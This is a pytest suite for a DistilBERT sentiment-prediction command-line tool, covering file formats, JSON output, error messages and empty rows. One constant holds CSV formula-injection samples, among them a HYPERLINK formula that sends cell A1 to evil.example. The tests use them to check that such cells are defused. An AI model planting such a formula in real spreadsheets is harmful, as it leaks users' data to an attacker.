"""src/predict.py as a user runs it: texts, files of each type, standard input, JSON, and every bad input."""

import csv
import io
import json

import numpy as np
import pandas as pd
import pytest
import synthetic
from conftest import assert_user_error, at_least, run_predict

from imdb_distilbert.inference import backends, predict

COLUMNS = ["text", "label", "prob_neg", "prob_pos"]


@pytest.fixture(scope="module")
def reviews():
    """50 fresh synthetic reviews (more than one batch, so the progress bar shows) and their true labels."""
    return synthetic.reviews(50, seed=31)


def write(reviews, path):
    """The reviews as a user might have them: a spreadsheet, a CSV or a text file, one review per line."""
    if path.suffix == ".txt":
        path.write_text("\n".join(reviews["Reviews"]) + "\n\n")  # a trailing blank line is skipped
    elif path.suffix == ".csv":
        reviews.to_csv(path, index=False)
    else:
        reviews.to_excel(path, index=False)
    return path


def test_texts_with_the_default_ktrain_backend(trained, capsys):
    predict.main(["--model", str(trained[0]), "the movie was wonderful and the cast was superb",
                  "a boring film with awful acting"])
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split("\t") == ["label", "prob_neg", "prob_pos", "text"]
    (label1, neg1, pos1, _), (label2, neg2, pos2, _) = [line.split("\t") for line in lines[1:]]
    assert [label1, label2] == [["neg", "pos"][float(p) > float(n)] for n, p in ((neg1, pos1), (neg2, pos2))]
    assert float(neg1) + float(pos1) == pytest.approx(1, abs=2e-4)
    # The printed probabilities are the saved predictor's (to the 4 decimals printed).
    import ktrain

    proba = ktrain.load_predictor(str(trained[0])).predict(["the movie was wonderful and the cast was superb",
                                                             "a boring film with awful acting"], return_proba=True)
    printed = np.array([[float(neg1), float(pos1)], [float(neg2), float(pos2)]])
    assert np.abs(printed - proba).max() <= 1e-4, (printed, proba)


def test_xlsx_file_with_ktrain(trained, exported, reviews, tmp_path):
    """The default backend on a spreadsheet, as a subprocess; its CSV has the same form and answers as onnx's."""
    path = write(reviews, tmp_path / "reviews.xlsx")
    result = run_predict("--model", trained[0], "--file", path, "--out", tmp_path / "ktrain.csv")
    assert result.returncode == 0, result.stderr[-3000:]
    assert "wrote 50 predictions (neg " in result.stdout and "scoring (ktrain)" in result.stderr
    ktrain_out = pd.read_csv(tmp_path / "ktrain.csv")
    assert list(ktrain_out.columns) == COLUMNS and list(ktrain_out["text"]) == list(reviews["Reviews"])
    at_least("predict: accuracy on 50 synthetic reviews", np.mean(ktrain_out["label"] == reviews["Sentiment"]), 0.9)

    result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--out", tmp_path / "onnx.csv")
    assert result.returncode == 0, result.stderr[-3000:]
    onnx_out = pd.read_csv(tmp_path / "onnx.csv")
    assert list(onnx_out.columns) == COLUMNS and onnx_out["text"].equals(ktrain_out["text"])
    assert onnx_out["label"].equals(ktrain_out["label"])
    assert np.abs(onnx_out[COLUMNS[2:]].to_numpy() - ktrain_out[COLUMNS[2:]].to_numpy()).max() <= 1e-4


@pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".txt"])
def test_file_types_give_the_same_predictions(exported, reviews, tmp_path, suffix):
    path = write(reviews, tmp_path / f"reviews{suffix}")
    result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--out", tmp_path / "out.csv")
    assert result.returncode == 0, result.stderr[-3000:]
    assert "scoring (onnx): 100%" in result.stderr  # the progress bar
    out = pd.read_csv(tmp_path / "out.csv")
    proba = backends.OnnxBackend(exported[0], "onnx").predict_proba(list(reviews["Reviews"]))
    assert list(out["text"]) == list(reviews["Reviews"])
    assert list(out["label"]) == list(np.array(["neg", "pos"])[proba.argmax(1)])
    assert np.allclose(out[["prob_neg", "prob_pos"]].to_numpy(), proba, atol=1e-6)


def test_other_column_name(exported, reviews, tmp_path):
    path = write(reviews.rename(columns={"Reviews": "comment"}), tmp_path / "reviews.csv")
    result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--column", "comment",
                         "--out", tmp_path / "out.csv")
    assert result.returncode == 0, result.stderr[-3000:]
    assert len(pd.read_csv(tmp_path / "out.csv")) == 50


def test_stdin_and_json_lines(exported):
    """One line per review; the blank lines between them are empty reviews, with rows of their own
    (test_empty_texts_on_the_command_line_and_stdin_keep_their_rows)."""
    result = run_predict("--model", exported[0], "--backend", "onnx-int8", "--json", "-",
                         input="a wonderful film, superb acting\n\n  \nan awful boring mess\n")
    assert result.returncode == 0, result.stderr[-3000:]
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["text"] for r in lines] == ["a wonderful film, superb acting", "", "", "an awful boring mess"]
    lines = [r for r in lines if r["text"]]
    assert list(lines[0]) == COLUMNS and all(abs(r["prob_neg"] + r["prob_pos"] - 1) < 1e-5 for r in lines)
    proba = backends.OnnxBackend(exported[0], "onnx-int8").predict_proba([r["text"] for r in lines])
    assert [r["label"] for r in lines] == list(np.array(["neg", "pos"])[proba.argmax(1)])
    assert [r["prob_pos"] for r in lines] == pytest.approx(list(proba[:, 1]), abs=1e-6)


def test_json_lines_to_a_file(exported, tmp_path):
    out = tmp_path / "sub" / "predictions.jsonl"
    result = run_predict("--model", exported[0], "--backend", "onnx", "--json", "--out", out, "great film", "awful")
    assert result.returncode == 0, result.stderr[-3000:]
    assert "wrote 2 predictions" in result.stdout
    assert [json.loads(line)["text"] for line in out.read_text().splitlines()] == ["great film", "awful"]


# Bad input: one sentence, a non-zero exit, no traceback, no output file; all before any model loads.

def test_no_such_model_folder(tmp_path):
    result = run_predict("--model", tmp_path / "nope", "great film", "--out", tmp_path / "out.csv")
    assert_user_error(result, "nope does not exist", "src/train.py")
    assert not (tmp_path / "out.csv").exists()


def test_not_a_predictor(tmp_path):
    (tmp_path / "thesis.txt").write_text("hello")
    assert_user_error(run_predict("--model", tmp_path, "great film"), "is not a saved predictor")
    assert_user_error(run_predict("--model", tmp_path / "thesis.txt", "great film"), "is not a saved predictor")


def test_no_onnx_export_yet(trained):
    for backend in ("onnx", "onnx-int8"):
        result = run_predict("--model", trained[0], "--backend", backend, "great film")
        assert_user_error(result, "has no ONNX export yet", f"python src/export.py --model {trained[0]}")


def test_missing_column(trained, reviews, tmp_path):
    path = write(reviews, tmp_path / "reviews.xlsx")
    result = run_predict("--model", trained[0], "--file", path, "--column", "Text", "--out", tmp_path / "out.csv")
    assert_user_error(result, "has no Text column (it has: Reviews, Sentiment)", "--column")
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize("name, content", [
    ("empty.txt", "\n  \n\n"),
    ("empty.csv", ""),
    ("header-only.csv", "Reviews,Sentiment\n"),
    ("blank-reviews.csv", "Reviews,Sentiment\n,pos\n  ,neg\n"),
    ("empty.xlsx", None),
])
def test_empty_file(trained, tmp_path, name, content):
    path = tmp_path / name
    if content is None:
        pd.DataFrame({"Reviews": []}).to_excel(path, index=False)
    else:
        path.write_text(content)
    assert_user_error(run_predict("--model", trained[0], "--file", path), f"{name} has no reviews to classify")


@pytest.mark.parametrize("name, fragment", [
    ("missing.csv", "missing.csv does not exist"),
    ("reviews.pdf", "is not an .xlsx, .csv or .txt file"),
    ("broken.xlsx", "could not read"),
])
def test_unusable_file(trained, tmp_path, name, fragment):
    if name != "missing.csv":
        (tmp_path / name).write_bytes(b"%PDF-1.4 not a spreadsheet")
    assert_user_error(run_predict("--model", trained[0], "--file", tmp_path / name), fragment)


def test_only_empty_texts(trained):
    assert_user_error(run_predict("--model", trained[0], "-", input="\n \n"), "no reviews to classify")


def test_out_is_a_folder(trained, tmp_path):
    assert_user_error(run_predict("--model", trained[0], "great", "--out", tmp_path), "is a folder")


@pytest.mark.parametrize("flags, fragment", [
    ([], "give reviews to classify"),
    (["great", "--file", "x.csv"], "not both"),
    (["great", "--batch-size", "0"], "--batch-size must be at least 1"),
    (["great", "--backend", "tflite"], "invalid choice: 'tflite'"),
])
def test_bad_flags(trained, flags, fragment):
    result = run_predict("--model", trained[0], *flags)
    assert result.returncode == 2 and fragment in result.stderr and "Traceback" not in result.stderr


# Reviews that a spreadsheet would open as formulas (the first a live link that sends cell A1 away).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click") a great film', "+1 for the cast, superb",
            "-awful, the worst", "@everyone watch it, wonderful"]


def test_csv_cells_that_look_like_formulas_are_shown_as_text(exported, tmp_path):
    """CSV for people: such a text gets a leading apostrophe, so Excel and LibreOffice show it and run nothing;
    --keep-formulas (for programs) and JSON keep the texts as they are."""
    path = tmp_path / "reviews.csv"
    pd.DataFrame({"Reviews": [*FORMULAS, "a fine film"]}).to_csv(path, index=False)
    for flags, want in (([], ["'" + t for t in FORMULAS]), (["--keep-formulas"], FORMULAS)):
        out = tmp_path / "predictions.csv"
        result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--out", out, *flags)
        assert result.returncode == 0, result.stderr[-3000:]
        assert list(pd.read_csv(out, keep_default_na=False)["text"]) == [*want, "a fine film"]
    result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--json")
    assert [json.loads(line)["text"] for line in result.stdout.splitlines()] == [*FORMULAS, "a fine film"]

    from imdb_distilbert.training import evaluation

    worst = pd.DataFrame({"review": [FORMULAS[0], "fine"], "true_label": ["pos", "neg"],
                          "predicted_label": ["neg", "pos"], "probability": [0.9, 0.8], "loss": [2.3, 1.6]})
    assert list(pd.read_csv(io.StringIO(evaluation.top_losses_csv(worst)))["review"]) == ["'" + FORMULAS[0], "fine"]


def test_out_may_not_be_the_file_being_read(exported, tmp_path):
    path = tmp_path / "reviews.csv"
    path.write_text("Reviews\na fine film\n")
    assert_user_error(run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--out",
                                  tmp_path / "." / "reviews.csv"), "is the --file being read")
    assert path.read_text() == "Reviews\na fine film\n"


def test_out_xlsx_is_a_workbook(exported, tmp_path):
    """--out predictions.xlsx: a real Excel workbook (was CSV text in a file named .xlsx), with the CSV's columns
    and numbers; a formula-like review is text, a control character Excel cannot hold is dropped, not a crash."""
    texts = ["a wonderful film", FORMULAS[0], "an awful\x0b boring film"]
    path = tmp_path / "reviews.csv"
    pd.DataFrame({"Reviews": texts}).to_csv(path, index=False)
    out, csv_out = tmp_path / "predictions.xlsx", tmp_path / "predictions.csv"
    for target in (out, csv_out):
        result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--out", target)
        assert result.returncode == 0, result.stderr[-3000:]
    assert out.read_bytes()[:2] == b"PK"  # a zip: the .xlsx format
    book = pd.read_excel(out, sheet_name="predictions", dtype={"label": str})
    table = pd.read_csv(csv_out, dtype={"label": str})
    assert list(book.columns) == list(table.columns) == ["text", "label", "prob_neg", "prob_pos"]
    assert list(book["text"]) == ["a wonderful film", "'" + FORMULAS[0], "an awful boring film"]
    assert list(book["label"]) == list(table["label"])
    assert np.abs(book[["prob_neg", "prob_pos"]].to_numpy() - table[["prob_neg", "prob_pos"]].to_numpy()).max() == 0


# CSV for people starts with a UTF-8 byte-order mark, so Excel shows accents and curly quotes; our readers skip it.

def test_csv_for_people_has_a_byte_order_mark(exported, trained, tmp_path):
    """predict.py --out x.csv and top_losses.csv start with the mark Excel's "CSV UTF-8" has; pandas, our reader and
    Python's utf-8-sig read the first column's name without it. --keep-formulas (for programs) and JSON have none."""
    texts = ["Amélie: “charming”, naïve – a wonderful film…", "an awful boring film"]
    out = tmp_path / "predictions.csv"
    result = run_predict("--model", exported[0], "--backend", "onnx", "--out", out, *texts)
    assert result.returncode == 0, result.stderr[-3000:]
    assert out.read_bytes().startswith(b"\xef\xbb\xbftext,label,")
    assert list(pd.read_csv(out).columns) == COLUMNS and list(pd.read_csv(out)["text"]) == texts
    from imdb_distilbert.data import reading

    assert list(reading.read_csv(out).columns) == COLUMNS
    with open(out, encoding="utf-8-sig", newline="") as f:
        assert next(csv.reader(f)) == COLUMNS
    assert predict.read_texts(out, "text") == texts  # fed back to predict.py --file --column text

    for flags, name in ((["--keep-formulas"], "programs.csv"), (["--json"], "programs.jsonl")):
        result = run_predict("--model", exported[0], "--backend", "onnx", "--out", tmp_path / name, *flags, *texts)
        assert result.returncode == 0, result.stderr[-3000:]
        assert (tmp_path / name).read_bytes()[:1] in (b"t", b"{")

    worst = trained[0] / "top_losses.csv"  # the training run's
    assert worst.read_bytes().startswith(b"\xef\xbb\xbfreview,true_label,")
    assert list(pd.read_csv(worst).columns) == ["review", "true_label", "predicted_label", "probability", "loss"]


# Every input row has an output row: an empty review gets one with no label and no probabilities.

def check_rows(path, want_texts):
    """predict.py's CSV at `path`: one row per input row, in order; the empty ones with no label or probabilities."""
    out = pd.read_csv(path, dtype={"label": str}, keep_default_na=False, na_values=[""])
    assert list(out.columns) == COLUMNS
    assert list(out["text"].fillna("")) == want_texts
    empty = out["text"].isna()
    assert out.loc[empty, ["label", "prob_neg", "prob_pos"]].isna().all().all()
    assert out.loc[~empty, ["label", "prob_neg", "prob_pos"]].notna().all().all()
    return out


@pytest.mark.parametrize("name", ["one-column.csv", "two-columns.csv", "reviews.xlsx", "reviews.txt"])
def test_empty_reviews_keep_their_rows(exported, tmp_path, name):
    """Empty and blank reviews (a blank line: how Excel saves an empty cell of a one-column sheet) were dropped, so
    the answers no longer lined up with the rows; now each gets a row. Blank lines after the last review are not
    rows."""
    texts = ["a wonderful film", "", "an awful boring film", "   ", "superb acting", ""]
    want = [t.strip() for t in texts[:5]]
    path = tmp_path / name
    if name == "one-column.csv":
        path.write_text("Reviews\na wonderful film\n\nan awful boring film\n   \nsuperb acting\n\n\n")
    elif name == "two-columns.csv":
        pd.DataFrame({"id": range(6), "Reviews": texts}).to_csv(path, index=False)
        want = want + [""]  # the last row has an id: it is a row
    elif name == "reviews.xlsx":
        pd.DataFrame({"Reviews": texts}).to_excel(path, index=False)
    else:
        path.write_text("\n".join(texts) + "\n\n")
    out = tmp_path / "out.csv"
    result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--out", out)
    assert result.returncode == 0, result.stderr[-3000:]
    empty = want.count("")
    assert "wrote 3 predictions (neg " in result.stdout
    assert f"and {empty} rows with no text (no label, no probabilities) to " in result.stdout
    scored = check_rows(out, want)
    proba = backends.OnnxBackend(exported[0], "onnx").predict_proba([t for t in want if t])
    assert np.allclose(scored[["prob_neg", "prob_pos"]].dropna().to_numpy(), proba, atol=1e-6)

    result = run_predict("--model", exported[0], "--backend", "onnx", "--file", path, "--out", tmp_path / "out.xlsx")
    assert result.returncode == 0, result.stderr[-3000:]
    book = pd.read_excel(tmp_path / "out.xlsx", dtype={"label": str})  # a last row of empty cells is no row there
    assert list(book["text"].fillna("")) == want[:5] and book["label"].isna().sum() == want[:5].count("")
    assert book["prob_pos"].dtype == float  # numbers, not text, in the workbook


def test_empty_texts_on_the_command_line_and_stdin_keep_their_rows(exported):
    result = run_predict("--model", exported[0], "--backend", "onnx", "a wonderful film", "  ", "an awful film")
    assert result.returncode == 0, result.stderr[-3000:]
    lines = result.stdout.splitlines()
    assert len(lines) == 4 and lines[2] == "-\t-\t-\t(empty: not scored)"
    assert lines[1].endswith("\ta wonderful film") and lines[3].endswith("\tan awful film")
    assert "note: 1 row with no text (no label, no probabilities)" in result.stderr

    result = run_predict("--model", exported[0], "--backend", "onnx", "--json", "-",
                         input="\na wonderful film\n \nan awful film\n\n")
    assert result.returncode == 0, result.stderr[-3000:]
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["text"] for r in rows] == ["", "a wonderful film", "", "an awful film"]
    assert rows[0] == rows[2] == {"text": "", "label": None, "prob_neg": None, "prob_pos": None}
    assert "note: 2 rows with no text" in result.stderr
